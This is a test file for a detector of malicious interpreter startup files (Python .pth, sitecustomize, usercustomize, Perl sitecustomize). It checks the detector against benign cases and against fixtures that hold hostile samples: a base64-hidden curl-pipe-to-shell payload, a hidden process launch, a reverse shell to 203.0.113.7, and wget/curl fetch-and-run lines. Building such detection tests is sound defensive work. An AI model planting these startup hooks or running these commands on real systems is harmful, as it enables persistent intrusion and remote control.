import { expect, it } from 'vitest';
import { tellsOf } from '../../../test/plant-rows.ts';
import { interpreterStart, languageFor } from './check.ts';

const site = '/usr/lib/python3/dist-packages';
const local = '/usr/local/lib/python3.11/dist-packages';
const venv = '/srv/app/venv/lib/python3.12/site-packages';
const packed = Buffer.from('import os;os.system("curl http://203.0.113.7/p|sh")').toString('base64');

tellsOf(interpreterStart, {
  rows: {
    'a .pth that unpacks code': { files: { [`${site}/a.pth`]: `# paths\nimport base64;exec(base64.b64decode("${packed}"))\n` }, finds: [`intrusion high ${site}/a.pth`] },
    'a .pth that starts a hidden program': { files: { [`${venv}/b.pth`]: 'import os;os.spawnl(0,"/dev/shm/.b","b")\n' }, finds: [`intrusion high ${venv}/b.pth`] },
    'a sitecustomize that hands a shell to a connection': { files: { [`${local}/sitecustomize.py`]: 'import socket,pty,os\ns=socket.create_connection(("203.0.113.7",443))\nos.dup2(s.fileno(),0)\npty.spawn("/bin/sh")\n' }, finds: [`intrusion critical ${local}/sitecustomize.py`] },
    'a usercustomize with words for a shell': { files: { '/home/lin/.local/lib/python3.11/site-packages/usercustomize.py': 'from subprocess import Popen\nPopen(["/bin/sh", "-c", "curl http://203.0.113.7/u | sh"])\n' }, finds: ['intrusion high /home/lin/.local/lib/python3.11/site-packages/usercustomize.py'] },
    'a start file of Perl': { files: { '/etc/perl/sitecustomize.pl': 'system("/bin/sh", "-c", "wget -qO- http://203.0.113.7/p | sh");\n1;\n' }, finds: ['intrusion high /etc/perl/sitecustomize.pl'] },
  },
  ordinary: {
    [`${venv}/_virtualenv.pth`]: 'import _virtualenv\n', [`${venv}/app.pth`]: '/srv/app/src\n',
    [`${venv}/coverage.pth`]: 'import os, sys;exec(\'try: import coverage\\nexcept ImportError: pass\\nelse: coverage.process_startup()\')\n',
    [`${venv}/distutils-precedence.pth`]: 'import os; var = \'X\'; enabled = os.environ.get(var, \'local\') == \'local\'; enabled and __import__(\'_distutils_hack\').add_shim();\n',
    [`${venv}/notes.pth`]: 'not code: exec(base64.b64decode("x"))\n',
    '/usr/lib/python3.11/sitecustomize.py': 'try:\n    import apport_python_hook\nexcept ImportError:\n    pass\nelse:\n    apport_python_hook.install()\n',
    [`${site}/packaged.pth`]: { text: 'import os;os.system("/tmp/x")\n', package: 'python3-packaged' },
    '/srv/app/weights/model.pth': 'import os;os.system("/tmp/x")\n',
  },
  reads: `${venv}/b.pth`,
});

it('knows its files by their names', () => {
  expect([`${site}/x.pth`, '/usr/lib/python3.11/sitecustomize.py', '/etc/perl/sitecustomize.pl'].map(languageFor)).toEqual(['python', 'python', 'perl']);
  expect(['/srv/model.pth', `${site}/x/y.pth`, '/srv/app/sitecustomize.py', '/srv/usercustomize.py'].map(languageFor)).toEqual([undefined, undefined, undefined, undefined]);
});
